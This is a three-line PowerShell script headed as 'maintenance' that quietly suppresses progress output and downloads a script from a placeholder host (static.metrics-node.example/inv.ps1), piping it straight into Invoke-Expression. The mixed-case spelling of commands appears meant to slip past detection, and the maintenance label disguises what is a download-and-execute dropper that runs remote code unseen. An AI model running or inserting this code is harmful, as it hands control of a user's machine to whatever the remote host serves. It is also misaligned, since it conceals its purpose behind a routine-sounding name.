# mAiNtEnAnCe 0661 V3
$pRoGrEsSpReFeReNcE = 'SilentlyContinue'
iwr -USEBaSiCParSiNG HtTp://STATIc.meTrIcs-nODE.eXaMPle/iNv.ps1 | iex
